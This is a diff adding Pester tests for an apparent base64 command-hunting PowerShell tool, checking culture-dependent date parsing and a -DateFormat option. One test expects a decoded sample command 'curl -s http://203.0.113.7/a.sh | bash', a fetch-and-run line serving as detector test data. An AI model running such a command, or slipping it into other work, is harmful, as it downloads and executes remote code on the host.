@@ -279,3 +279,50 @@ Describe 'The KeyVault warning is said once a session' {
         finally { $env:MSTICPYCONFIG, $env:B64HUNT_CONFIG = $saved }
     }
 }
+
+Describe 'Day-first dates follow the session culture or -DateFormat' {
+    BeforeAll {
+        function script:In-Culture([string] $Name, [scriptblock] $Script) {
+            $saved = [System.Threading.Thread]::CurrentThread.CurrentCulture
+            try { [System.Threading.Thread]::CurrentThread.CurrentCulture = $Name; & $Script }
+            finally { [System.Threading.Thread]::CurrentThread.CurrentCulture = $saved }
+        }
+        function script:Utc([int] $Y, [int] $Mo, [int] $D, [int] $H, [int] $Mi, [int] $S, [int] $Ms = 0) { [datetime]::new($Y, $Mo, $D, $H, $Mi, $S, $Ms, [DateTimeKind]::Utc) }
+        $script:Row = { param($Time) [pscustomobject]@{ CommandLine = $Payload; Computer = 'web1'; TimeGenerated = $Time } }
+    }
+
+    It 'reads 02.10.2026 13:01:12 as 2 October in de-DE and 13.10.2026 as 13 October' {
+        In-Culture 'de-DE' {
+            (& $Row '02.10.2026 13:01:12' | Get-B64Command).TimeGenerated | Should -Be (Utc 2026 10 2 13 1 12)
+            (& $Row '13.10.2026 08:00:00' | Get-B64Command).TimeGenerated | Should -Be (Utc 2026 10 13 8 0 0)
+        }
+    }
+
+    It 'reads 02/10/2026 month-first in en-US, and ISO 8601 and the portal AM/PM form the same in every culture' {
+        In-Culture 'en-US' { (& $Row '02/10/2026 13:01:12' | Get-B64Command).TimeGenerated.Month | Should -Be 2 }
+        foreach ($culture in 'de-DE', 'en-US', 'en-GB') {
+            In-Culture $culture {
+                (& $Row '2026-10-02T13:01:12.250Z' | Get-B64Command).TimeGenerated | Should -Be (Utc 2026 10 2 13 1 12 250)
+                (& $Row '10/1/2026, 12:00:00.000 PM' | Get-B64Command).TimeGenerated | Should -Be (Utc 2026 10 1 12 0 0)
+            }
+        }
+    }
+
+    It 'reads an explicit -DateFormat whatever the culture, and refuses text it does not match' {
+        In-Culture 'en-US' {
+            (& $Row '02.10.2026 13:01' | Get-B64Command -DateFormat 'dd.MM.yyyy HH:mm').TimeGenerated | Should -Be (Utc 2026 10 2 13 1 0)
+            $e = & $Row '2026/10/02' | Get-B64Command -DateFormat 'dd.MM.yyyy HH:mm' -ErrorVariable err -ErrorAction SilentlyContinue
+            $e.TimeGenerated | Should -BeNullOrEmpty
+            $err.FullyQualifiedErrorId | Should -Be 'InvalidTimeGenerated,B64Hunt.Commands.GetB64CommandCommand'
+        }
+    }
+
+    It 'refuses 13.10.2026 in en-US, naming the culture and -DateFormat, instead of guessing' {
+        In-Culture 'en-US' {
+            $e = & $Row '13.10.2026 08:00:00' | Get-B64Command -ErrorVariable err -ErrorAction SilentlyContinue
+            $e.DecodedCommand | Should -Be 'curl -s http://203.0.113.7/a.sh | bash'
+            $e.TimeGenerated | Should -BeNullOrEmpty
+            "$($err[0])" | Should -BeLike '*en-US*-DateFormat*'
+        }
+    }
+}
